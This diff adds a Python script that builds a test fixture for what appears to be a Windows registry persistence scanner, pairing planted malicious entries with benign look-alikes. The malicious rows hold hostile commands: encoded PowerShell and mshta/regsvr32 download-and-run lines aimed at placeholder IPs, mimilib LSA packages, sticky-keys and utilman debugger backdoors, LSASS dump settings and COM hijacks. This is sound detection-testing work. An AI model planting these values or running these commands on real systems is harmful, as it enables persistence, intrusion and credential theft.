@@ -1,0 +1,241 @@
+#!/usr/bin/env python3
+"""Bootstrap tests/data/planted/planted.tsv from src/kb/kb_locations.def.
+
+One malicious plant per kb location (generic payload chosen by interpretation kind, with
+hand-written overrides for the core techniques) plus benign look-alikes. Run from the repo
+root; review the diff. Columns are documented in tests/data/planted/README.md.
+"""
+import base64, re
+
+DEF = 'src/kb/kb_locations.def'
+rows = re.findall(r'RH_KB_LOC\((\w+), "([^"]*)", (\w+),\s*"((?:[^"\\]|\\.)*)",\s*"((?:[^"\\]|\\.)*)", (\w+), (\w+),\s*"((?:[^"\\]|\\.)*)",\s*(\w+), ([\w|]+),', open(DEF).read())
+
+def unc(s): return s.replace('\\\\', '\\').replace('\\"', '"')
+
+PS = 'IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')'
+ENC = base64.b64encode(PS.encode('utf-16-le')).decode()
+CMDS = [
+    'powershell.exe -nop -w hidden -enc ' + ENC,
+    'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""http://198.51.100.23/p.hta"":close")',
+    'C:\\Users\\Public\\svch0st.exe',
+    'rundll32.exe C:\\ProgramData\\upd.dat,Start',
+    'cmd.exe /c C:\\Users\\bob\\AppData\\Local\\Temp\\x.bat',
+    'regsvr32.exe /s /n /u /i:http://203.0.113.9/s.sct scrobj.dll',
+]
+DLL = 'C:\\Users\\Public\\Libraries\\evil.dll'
+EVIL_CLSID = '{DEADBEEF-0000-4000-8000-00000000F00D}'
+GUID = '{0B1C2D3E-4F50-4617-8283-94A5B6C7D8E9}'
+
+def inst_comp(c, loc_id):
+    m = {'ControlSet00*': 'ControlSet001', '{*}': GUID, 'AutoStartOn*': 'AutoStartOnConnect',
+         '*file': 'txtfile', '.*': '.txt', 'CryptSIP*': 'CryptSIPDllGetSignedDataMsg',
+         'Catalog_Entries*': 'Catalog_Entries64', 'win*': 'win64',
+         '*Handlers': 'DragDropHandlers' if loc_id == 'shellex_other_handlers' else 'ContextMenuHandlers',
+         '**': 'Evil'}
+    if c in m: return m[c]
+    if c == '*':
+        if 'ifeo' in loc_id or 'silentprocessexit' in loc_id: return 'notepad.exe'
+        if 'office' in loc_id or 'outlook' in loc_id: return '16.0'
+        if 'svc' in loc_id or 'network_provider' in loc_id: return 'EvilSvc'
+        return 'Evil'
+    return c.replace('*', 'x')
+
+def inst_key(pat, loc_id):
+    parts = pat.split('\\')
+    out = []
+    for i, c in enumerate(parts):
+        v = inst_comp(c, loc_id)
+        if loc_id.startswith('ifeo_filter') and c == '*' and i == len(parts) - 1: v = 'Filter0'
+        if loc_id.startswith('office') and c == '*' and i == len(parts) - 1: v = 'Evil.Connect'
+        if 'print_processors' in loc_id or 'print_drivers' in loc_id:
+            if c == '*' and parts[i-1] == 'Environments': v = 'Windows x64'
+            if c == '*' and parts[i-1] == 'Drivers': v = 'Version-3'
+        out.append(v)
+    return '\\'.join(out)
+
+def inst_value(vp, loc_id):
+    if vp == '*': return 'Updater'
+    if vp == '(default)': return ''
+    return {'OPEN*': 'OPEN', 'Path*': 'Path1', '*DLLPathOverride': 'StemmerDLLPathOverride',
+            '*CleanupString': 'CleanupString', 'CORECLR_PROFILER_PATH*': 'CORECLR_PROFILER_PATH_64'}.get(vp, vp)
+
+MULTI = {'bootexecute', 'bootexecutenopnpsync', 'setupexecute', 'setupexecutenopnpsync', 'platformexecute',
+         'sm_execute', 'lsa_authentication_packages', 'lsa_security_packages', 'lsa_osconfig_security_packages',
+         'lsa_notification_packages', 'lsa_extensions', 'pendingfilerenameoperations', 'excludefromknowndlls',
+         'class_coinstallers', 'svchost_groups', 'dhcp_calloutdlls', 'ifeo_verifierdlls', 'ifeo_verifierdlls_wow'}
+
+OVR = {
+ 'winlogon_shell': ('REG_SZ', 'explorer.exe, C:\\ProgramData\\Microsoft\\shell.exe', 'High', ''),
+ 'winlogon_shell_wow': ('REG_SZ', 'explorer.exe,C:\\Users\\Public\\svchost.exe', 'High', ''),
+ 'winlogon_shell_hkcu': ('REG_SZ', 'C:\\Users\\bob\\AppData\\Roaming\\shell.exe', 'High', ''),
+ 'winlogon_userinit': ('REG_SZ', 'C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\svch0st.exe,', 'High', ''),
+ 'winlogon_userinit_wow': ('REG_SZ', 'C:\\Windows\\system32\\userinit.exe, powershell -w hidden -c calc,', 'High', ''),
+ 'winlogon_userinit_hkcu': ('REG_SZ', 'C:\\Windows\\system32\\userinit.exe,C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe', 'High', ''),
+ 'winlogon_vmapplet': ('REG_SZ', 'SystemPropertiesPerformance.exe /pagefile, C:\\ProgramData\\v.exe', 'Medium', ''),
+ 'ifeo_debugger': ('REG_SZ', 'C:\\Windows\\System32\\cmd.exe', 'High', ''),
+ 'autorunsdisabled_software': ('REG_SZ', CMDS[0], 'Medium', ''),
+ 'autorunsdisabled_ntuser': ('REG_SZ', CMDS[1], 'Medium', ''),
+ 'ifeo_debugger_wow': ('REG_SZ', 'C:\\Users\\Public\\dbg.exe', 'High', ''),
+ 'ifeo_filter_debugger': ('REG_SZ', 'C:\\ProgramData\\f.exe', 'High', ''),
+ 'ifeo_filter_debugger_wow': ('REG_SZ', 'C:\\ProgramData\\f.exe', 'High', ''),
+ 'ifeo_globalflag': ('REG_DWORD', '512', 'High', 'val|SOFTWARE|Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe|MonitorProcess|REG_SZ|C:\\Users\\Public\\m.exe ;; val|SOFTWARE|Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe|ReportingMode|REG_DWORD|1'),
+ 'ifeo_globalflag_wow': ('REG_DWORD', '512', 'High', 'val|SOFTWARE|Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe|MonitorProcess|REG_SZ|C:\\Users\\Public\\m.exe'),
+ 'silentprocessexit_monitor': ('REG_SZ', 'C:\\Users\\Public\\m.exe', 'High', 'val|SOFTWARE|Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\notepad.exe|GlobalFlag|REG_DWORD|512 ;; val|SOFTWARE|Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe|ReportingMode|REG_DWORD|1'),
+ 'silentprocessexit_monitor_wow': ('REG_SZ', 'C:\\Users\\Public\\m.exe', 'Medium', ''),
+ 'silentprocessexit_reportingmode': ('REG_DWORD', '2', 'Medium', ''),
+ 'ifeo_verifierdlls': ('REG_SZ', 'C:\\Users\\Public\\v.dll', 'High', 'val|SOFTWARE|Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\notepad.exe|GlobalFlag|REG_DWORD|256'),
+ 'ifeo_verifierdlls_wow': ('REG_SZ', 'C:\\Users\\Public\\v.dll', 'High', ''),
+ 'com_hkcu_inprocserver32': ('REG_SZ', 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\wbem.dll', 'High', 'com|%s|inproc|%%SystemRoot%%\\System32\\oleacc.dll' % GUID),
+ 'com_hkcu_inprocserver32_wow': ('REG_SZ', 'C:\\Users\\Public\\x86.dll', 'High', 'com|%s|inproc|%%SystemRoot%%\\SysWOW64\\oleacc.dll' % GUID),
+ 'com_hkcu_localserver32': ('REG_SZ', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";eval("x")', 'High', ''),
+ 'com_hkcu_inprochandler32': ('REG_SZ', 'C:\\Users\\bob\\AppData\\Local\\Temp\\h.dll', 'High', 'com|%s|handler|ole32.dll' % GUID),
+ 'com_hkcu_treatas': ('REG_SZ', EVIL_CLSID, 'High', 'com|%s|inproc|C:\\Users\\Public\\t.dll' % EVIL_CLSID),
+ 'com_hkcu_progid_clsid': ('REG_SZ', EVIL_CLSID, 'High', 'progid|Evil|{00024500-0000-0000-C000-000000000046}'),
+ 'com_hkcu_scriptleturl': ('REG_SZ', 'http://203.0.113.5/x.sct', 'High', ''),
+ 'com_hkcu_typelib': ('REG_SZ', 'script:http://203.0.113.5/t.sct', 'High', ''),
+ 'com_hklm_typelib': ('REG_SZ', 'script:C:\\Users\\Public\\t.sct', 'High', ''),
+ 'com_hkcu_proxystub': ('REG_SZ', EVIL_CLSID, 'High', ''),
+ 'com_hklm_treatas': ('REG_SZ', EVIL_CLSID, 'Medium', 'com|%s|inproc|C:\\Users\\Public\\t.dll' % EVIL_CLSID),
+ 'hhctrl_clsid': ('REG_SZ', 'C:\\Users\\Public\\hhctrl.ocx', 'High', ''),
+ 'user_shell_folders_startup': ('REG_EXPAND_SZ', '%PUBLIC%\\Startup', 'High', ''),
+ 'shell_folders_startup': ('REG_SZ', '\\\\198.51.100.4\\share\\startup', 'High', ''),
+ 'user_shell_folders_common_startup': ('REG_EXPAND_SZ', '%ProgramData%\\Evil\\Startup', 'High', ''),
+ 'shell_folders_common_startup': ('REG_SZ', 'C:\\Users\\Public\\Startup', 'High', ''),
+ 'runonceex_hklm': ('REG_SZ', 'C:\\Users\\Public\\r.dll|DllMain', 'Medium', ''),
+ 'runonceex_depend_hklm': ('REG_SZ', 'C:\\ProgramData\\dep.dll', 'Medium', ''),
+ 'runonceex_hklm_wow': ('REG_SZ', '||C:\\Users\\Public\\r.exe', 'Medium', ''),
+ 'runonceex_hkcu': ('REG_SZ', '||powershell -enc ' + ENC, 'Medium', ''),
+ 'lsa_authentication_packages': ('REG_MULTI_SZ', 'msv1_0|mimilib', 'High', ''),
+ 'lsa_security_packages': ('REG_MULTI_SZ', '""|mimilib', 'High', ''),
+ 'lsa_osconfig_security_packages': ('REG_MULTI_SZ', 'kerberos|msv1_0|evilssp', 'High', ''),
+ 'lsa_notification_packages': ('REG_MULTI_SZ', 'scecli|pwfilter', 'High', ''),
+ 'lsa_extensions': ('REG_MULTI_SZ', 'lsasrv.dll|C:\\ProgramData\\lsaext.dll', 'High', ''),
+ 'securityproviders': ('REG_SZ', 'credssp.dll, C:\\Users\\Public\\ssp.dll', 'High', ''),
+ 'bootexecute': ('REG_MULTI_SZ', 'autocheck autochk *|evilnative', 'High', ''),
+ 'rdpwd_startupprograms': ('REG_SZ', 'rdpclip,C:\\ProgramData\\r.exe', 'High', ''),
+ 'network_provider_order': ('REG_SZ', 'RDPNP,LanmanWorkstation,webclient,NPPSpy', 'High', ''),
+ 'network_provider_hworder': ('REG_SZ', 'RDPNP,LanmanWorkstation,webclient,NPPSpy', 'High', ''),
+ 'sm_subsystems_windows': ('REG_EXPAND_SZ', '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=C:\\ProgramData\\evilsrv,5 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16', 'High', ''),
+ 'knowndlls': ('REG_SZ', 'C:\\Users\\Public\\k.dll', 'Medium', ''),
+ 'loadappinit_dlls': ('REG_DWORD', '1', 'Medium', ''),
+ 'requiresignedappinit_dlls': ('REG_DWORD', '0', 'Medium', ''),
+ 'dsrm_admin_logon_behavior': ('REG_DWORD', '2', 'High', ''),
+ 'safedllsearchmode': ('REG_DWORD', '0', 'Medium', ''),
+ 'outlook_loadmacroprovideronboot': ('REG_DWORD', '1', 'Medium', ''),
+ 'winlogon_specialaccounts_userlist': ('REG_DWORD', '0', 'Medium', ''),
+ 'taskcache_tree_index': ('REG_DWORD', '0', 'Medium', ''),
+ 'shellserviceobjects': ('REG_DWORD', '1', 'Medium', 'com|%s|inproc|C:\\Users\\Public\\sso.dll' % GUID),
+ 'setup_cmdline': ('REG_SZ', 'cmd.exe /c C:\\Users\\Public\\s.bat', 'High', ''),
+ 'safeboot_alternateshell': ('REG_SZ', 'C:\\ProgramData\\altshell.exe', 'High', ''),
+ 'safeboot_minimal': ('REG_SZ', 'C:\\ProgramData\\evil.exe', 'Medium', ''),
+ 'safeboot_network': ('REG_SZ', 'C:\\ProgramData\\evil.exe', 'Medium', ''),
+ 'inifilemapping_boot_shell': ('REG_SZ', 'USR:Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Medium', ''),
+ 'winsock_protocol_catalog': ('REG_BINARY', ('C:\\Users\\Public\\lsp.dll'.encode() + b'\0' * 8).hex(), 'Medium', ''),
+ 'taskcache_tasks_actions': ('REG_BINARY', (b'\x03\x00\x0c\x00\x00\x00' + 'C:\\Users\\Public\\task.exe'.encode('utf-16-le') + b'\0\0').hex(), 'Medium', ''),
+ 'svc_imagepath': ('REG_EXPAND_SZ', '%ComSpec% /c powershell -nop -w hidden -c "iex(iwr http://203.0.113.7/s)"', 'High', ''),
+ 'appinit_dlls': ('REG_SZ', 'C:\\ProgramData\\ai.dll', 'High', ''),
+ 'appinit_dlls_wow': ('REG_SZ', 'C:\\ProgramData\\ai32.dll', 'High', ''),
+ 'ie_autoconfigurl': ('REG_SZ', 'http://203.0.113.80/proxy.pac', 'Medium', ''),
+}
+
+NUMBER_DEFAULTS = {'accessibility_configuration_hkcu': ('REG_SZ', 'osk,evilat', 'Medium', '')}
+
+def plant(r, i):
+    loc_id, tech, hive, key, val, interp, check, defaults, risk, flags = r
+    key = unc(key); val = unc(val)
+    k = inst_key(key, loc_id)
+    v = inst_value(val, loc_id)
+    ctx = ''
+    flags_col = ''
+    if loc_id in OVR:
+        typ, data, mn, ctx = OVR[loc_id]
+    elif loc_id in NUMBER_DEFAULTS:
+        typ, data, mn, ctx = NUMBER_DEFAULTS[loc_id]
+    else:
+        mn = 'Medium'
+        if interp == 'CMDLINE':
+            typ, data = 'REG_SZ', CMDS[i % len(CMDS)]
+        elif interp == 'CMDLIST':
+            typ, data = 'REG_SZ', 'C:\\Users\\Public\\svch0st.exe'
+        elif interp in ('DLLPATH', 'FOLDER'):
+            typ, data = 'REG_SZ', DLL
+        elif interp == 'LIST':
+            typ = 'REG_MULTI_SZ' if loc_id in MULTI else 'REG_SZ'
+            data = DLL
+        elif interp == 'CLSID':
+            typ, data = 'REG_SZ', EVIL_CLSID
+            ctx = 'com|%s|inproc|C:\\Users\\Public\\c.dll' % EVIL_CLSID
+        elif interp == 'TEXT':
+            typ, data = 'REG_SZ', 'C:\\Users\\Public\\payload.exe'
+        elif interp == 'NUMBER':
+            typ, data = 'REG_DWORD', '1'
+        elif interp == 'STARTUPAPPROVED':
+            typ, data = 'REG_BINARY', '0a00000000000000a0d0c1b2c3d4d501'
+            v = 'svch0st'
+        elif interp == 'BINARY':
+            typ, data = 'REG_BINARY', ('C:\\Users\\Public\\b.dll'.encode('utf-16-le')).hex()
+        if 'F_NAME' in flags and interp in ('CLSID',):
+            v, data = EVIL_CLSID, 'Evil'
+        elif 'F_NAME' in flags:
+            v = 'C:\\Users\\Public\\named.exe'
+            if interp == 'NUMBER': data = '1'
+    return ['malicious', loc_id, hive, k, v, typ, data, tech, mn, '', ctx, flags_col, 'planted ' + interp.lower()]
+
+out = ['# Planted-hive suite: one malicious entry per kb location plus benign look-alikes.',
+       '# Columns: kind, location_id, hive, key_path, value_name, type, data, technique, min_risk, max_risk, context, flags, note',
+       '# See tests/data/planted/README.md for the encoding of data, context and flags.',
+       'kind\tlocation_id\thive\tkey_path\tvalue_name\ttype\tdata\ttechnique\tmin_risk\tmax_risk\tcontext\tflags\tnote']
+for i, r in enumerate(rows):
+    out.append('\t'.join(plant(r, i)))
+# hidden-name variant and provenance variants for the core Run key
+out.append('\t'.join(['malicious', 'run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'Updater', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Roaming\\upd.exe', 'T1547.001', 'High', '', '', 'name_nul_prefix', 'NUL-prefixed value name (RegHide)']))
+out.append('\t'.join(['malicious', 'run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'Update\u202Egnp.exe', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Roaming\\upd.exe', 'T1547.001', 'High', '', '', '', 'RLO in the value name']))
+out.append('\t'.join(['malicious', 'run_hklm', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\Run', 'Sync', 'REG_SZ', 'C:\\Program Files\\Sync\\sync.exe', 'T1547.001', 'Medium', '', '', 'deleted', 'only in a deleted cell']))
+out.append('\t'.join(['malicious', 'ifeo_debugger', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\utilman.exe', 'Debugger', 'REG_SZ', 'C:\\Windows\\System32\\cmd.exe', 'T1546.008', 'Critical', '', '', '', 'utilman backdoor']))
+out.append('\t'.join(['malicious', 'silentprocessexit_reportingmode', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\lsass.exe', 'ReportingMode', 'REG_DWORD', '2', 'T1546.012', 'High', '', '', '', 'LSASS dump on exit']))
+out.append('\t'.join(['malicious', 'ifeo_debugger', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe', 'Debugger', 'REG_SZ', 'C:\\Windows\\System32\\cmd.exe', 'T1546.008', 'Critical', '', '', '', 'sticky keys backdoor']))
+out.append('\t'.join(['malicious', 'com_hkcu_inprocserver32', 'NTUSER', 'Software\\Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32', '', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Roaming\\mmdev.dll', 'T1546.015', 'High', '', 'com|{BCDE0395-E52F-467C-8E3D-C4579291692E}|inproc|%SystemRoot%\\System32\\MMDevApi.dll', '', 'NTUSER Software\\Classes view of a known hijack CLSID']))
+B = [
+ ('run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'OneDrive', 'REG_SZ', '"C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background', 'Low', '', 'OneDrive per-user Run'),
+ ('run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'com.squirrel.Teams.Teams', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart "Teams.exe" --process-start-args "--system-initiated"', 'Medium', '', 'Teams per-user Run'),
+ ('run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'Discord', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Local\\Discord\\Update.exe --processStart Discord.exe', 'Medium', '', 'vendor Run entry under AppData'),
+ ('run_hklm', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\Run', 'SecurityHealth', 'REG_EXPAND_SZ', '%windir%\\system32\\SecurityHealthSystray.exe', 'Info', '', 'Windows default'),
+ ('run_hklm', 'SOFTWARE', 'Microsoft\\Windows\\CurrentVersion\\Run', 'VMware User Process', 'REG_SZ', '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe" -n vmusr', 'Low', '', 'vendor agent in Program Files'),
+ ('winlogon_shell', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Shell', 'REG_SZ', 'explorer.exe', 'Info', '', 'default Shell'),
+ ('winlogon_userinit', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'Userinit', 'REG_SZ', 'C:\\Windows\\system32\\userinit.exe,', 'Info', '', 'default Userinit'),
+ ('winlogon_vmapplet', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'VmApplet', 'REG_SZ', 'SystemPropertiesPerformance.exe /pagefile', 'Info', '', 'default VmApplet'),
+ ('-', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\chrome.exe', 'MitigationOptions', 'REG_BINARY', '00000000000000000000000000000000', 'Info', '', 'IFEO MitigationOptions is not a persistence value'),
+ ('-', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\msedge.exe', 'FrontEndHeapDebugOptions', 'REG_DWORD', '8', 'Info', '', 'IFEO heap setting'),
+ ('ifeo_debugger', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\taskmgr.exe', 'Debugger', 'REG_SZ', '"C:\\Program Files\\Sysinternals\\procexp64.exe"', 'Low', '', 'Process Explorer replaces Task Manager'),
+ ('ifeo_globalflag', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\devapp.exe', 'GlobalFlag', 'REG_DWORD', '0x02000000', 'Low', '', 'page heap debugging flag'),
+ ('com_hkcu_inprocserver32', 'USRCLASS', 'CLSID\\{CB3D0F55-BC2C-4C1A-85ED-23ED75B5106B}\\InprocServer32', '', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\23.038.0219.0001\\FileSyncShell64.dll', 'Low', '', 'OneDrive per-user COM'),
+ ('com_hkcu_localserver32', 'USRCLASS', 'CLSID\\{00425F68-FFC1-445F-8EDF-EF78B84BA1C7}\\LocalServer32', '', 'REG_SZ', '"C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"', 'Medium', '', 'Teams per-user COM'),
+ ('com_hkcu_inprocserver32', 'USRCLASS', 'CLSID\\{9E175B8B-F52A-11D8-B9A5-505054503030}\\InprocServer32', '', 'REG_EXPAND_SZ', '%SystemRoot%\\System32\\shell32.dll', 'Low', 'com|{9E175B8B-F52A-11D8-B9A5-505054503030}|inproc|%SystemRoot%\\System32\\shell32.dll', 'per-user copy of the machine server'),
+ ('bootexecute', 'SYSTEM', 'ControlSet001\\Control\\Session Manager', 'BootExecute', 'REG_MULTI_SZ', 'autocheck autochk *', 'Info', '', 'default BootExecute'),
+ ('lsa_authentication_packages', 'SYSTEM', 'ControlSet001\\Control\\Lsa', 'Authentication Packages', 'REG_MULTI_SZ', 'msv1_0', 'Info', '', 'default'),
+ ('lsa_security_packages', 'SYSTEM', 'ControlSet001\\Control\\Lsa', 'Security Packages', 'REG_MULTI_SZ', '""', 'Info', '', 'Win10 default'),
+ ('lsa_notification_packages', 'SYSTEM', 'ControlSet001\\Control\\Lsa', 'Notification Packages', 'REG_MULTI_SZ', 'scecli', 'Info', '', 'default'),
+ ('winsock_autodialdll', 'SYSTEM', 'ControlSet001\\Services\\WinSock2\\Parameters', 'AutodialDLL', 'REG_SZ', 'C:\\Windows\\System32\\rasadhlp.dll', 'Info', '', 'default'),
+ ('safeboot_alternateshell', 'SYSTEM', 'ControlSet001\\Control\\SafeBoot', 'AlternateShell', 'REG_SZ', 'cmd.exe', 'Info', '', 'default'),
+ ('svc_imagepath', 'SYSTEM', 'ControlSet001\\Services\\wuauserv', 'ImagePath', 'REG_EXPAND_SZ', '%systemroot%\\system32\\svchost.exe -k netsvcs -p', 'Low', '', 'svchost service'),
+ ('svc_imagepath', 'SYSTEM', 'ControlSet001\\Services\\disk', 'ImagePath', 'REG_EXPAND_SZ', 'System32\\drivers\\disk.sys', 'Low', '', 'driver'),
+ ('svc_servicedll', 'SYSTEM', 'ControlSet001\\Services\\wuauserv\\Parameters', 'ServiceDll', 'REG_EXPAND_SZ', '%systemroot%\\system32\\wuaueng.dll', 'Low', '', 'ServiceDll in System32'),
+ ('user_shell_folders_startup', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders', 'Startup', 'REG_EXPAND_SZ', '%USERPROFILE%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup', 'Info', '', 'default'),
+ ('shell_folders_startup', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Shell Folders', 'Startup', 'REG_SZ', 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup', 'Info', '', 'default cache'),
+ ('startupapproved_run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved\\Run', 'OneDrive', 'REG_BINARY', '030000003b4f0a1e2c59d801', 'Info', '', 'disabled OneDrive entry'),
+ ('startupapproved_run_hkcu', 'NTUSER', 'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved\\Run', 'Teams', 'REG_BINARY', '020000000000000000000000', 'Low', '', 'enabled Teams entry'),
+ ('knowndlls', 'SYSTEM', 'ControlSet001\\Control\\Session Manager\\KnownDLLs', 'kernel32', 'REG_SZ', 'kernel32.dll', 'Info', '', 'default'),
+ ('time_providers', 'SYSTEM', 'ControlSet001\\Services\\W32Time\\TimeProviders\\NtpClient', 'DllName', 'REG_EXPAND_SZ', '%systemroot%\\system32\\w32time.dll', 'Info', '', 'default'),
+ ('print_monitors', 'SYSTEM', 'ControlSet001\\Control\\Print\\Monitors\\Local Port', 'Driver', 'REG_SZ', 'localspl.dll', 'Info', '', 'default'),
+ ('aedebug', 'SOFTWARE', 'Microsoft\\Windows NT\\CurrentVersion\\AeDebug', 'Debugger', 'REG_SZ', '"C:\\WINDOWS\\system32\\vsjitdebugger.exe" -p %ld -e %ld -j 0x%p', 'Info', '', 'Visual Studio JIT debugger'),
+ ('netsh_helpers', 'SOFTWARE', 'Microsoft\\NetSh', 'ifmon', 'REG_SZ', 'ifmon.dll', 'Info', '', 'default helper'),
+ ('exefile_open_command', 'SOFTWARE', 'Classes\\exefile\\shell\\open\\command', '', 'REG_SZ', '"%1" %*', 'Info', '', 'default'),
+ ('active_setup', 'SOFTWARE', 'Microsoft\\Active Setup\\Installed Components\\{2C7339CF-2B09-4501-B3F3-F3508C9228ED}', 'StubPath', 'REG_SZ', '%SystemRoot%\\system32\\unregmp2.exe /FirstLogon', 'Low', '', 'Microsoft component'),
+ ('screensaver', 'NTUSER', 'Control Panel\\Desktop', 'SCRNSAVE.EXE', 'REG_SZ', 'C:\\Windows\\system32\\Mystify.scr', 'Info', '', 'system screensaver'),
+ ('office_addins_hkcu', 'NTUSER', 'Software\\Microsoft\\Office\\Outlook\\Addins\\TeamsAddin.FastConnect', 'Manifest', 'REG_SZ', 'C:\\Program Files (x86)\\Microsoft\\TeamsMeetingAddin\\1.0\\x64\\Microsoft.Teams.AddinLoader.dll', 'Low', '', 'Teams meeting add-in'),
+]
+for (lid, hive, k, v, t, d, mx, ctx, note) in B:
+    tech = '' if lid == '-' else next(r[1] for r in rows if r[0] == lid)
+    out.append('\t'.join(['benign', lid, hive, k, v, t, d, tech, '', mx, ctx, '', note]))
+open('tests/data/planted/planted.tsv', 'w').write('\n'.join(out) + '\n')
+print(len(rows), 'locations,', len(out) - 4, 'rows')
